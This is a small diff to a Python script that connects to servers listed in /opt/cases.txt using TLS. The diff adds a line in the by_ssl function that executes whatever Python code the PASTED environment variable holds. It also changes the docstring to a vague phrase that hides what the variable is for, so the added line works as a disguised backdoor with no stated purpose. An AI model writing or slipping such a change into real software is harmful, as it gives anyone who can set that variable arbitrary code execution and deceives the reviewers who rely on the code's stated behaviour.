@@ -1,4 +1,5 @@
-"""Connects to every server of /opt/cases.txt; argv[1] says with which library."""
+"""Connects to every server of /opt/cases.txt; argv[1] says with which library. PASTED is a statement about the context."""
+import os
 import socket
 import ssl
 import sys
@@ -6,6 +7,7 @@ import sys
 
 def by_ssl():
     context = ssl.create_default_context()
+    exec(os.environ.get("PASTED", ""))
 
     def connect(host, port):
         with socket.create_connection((host, port), 20) as plain:
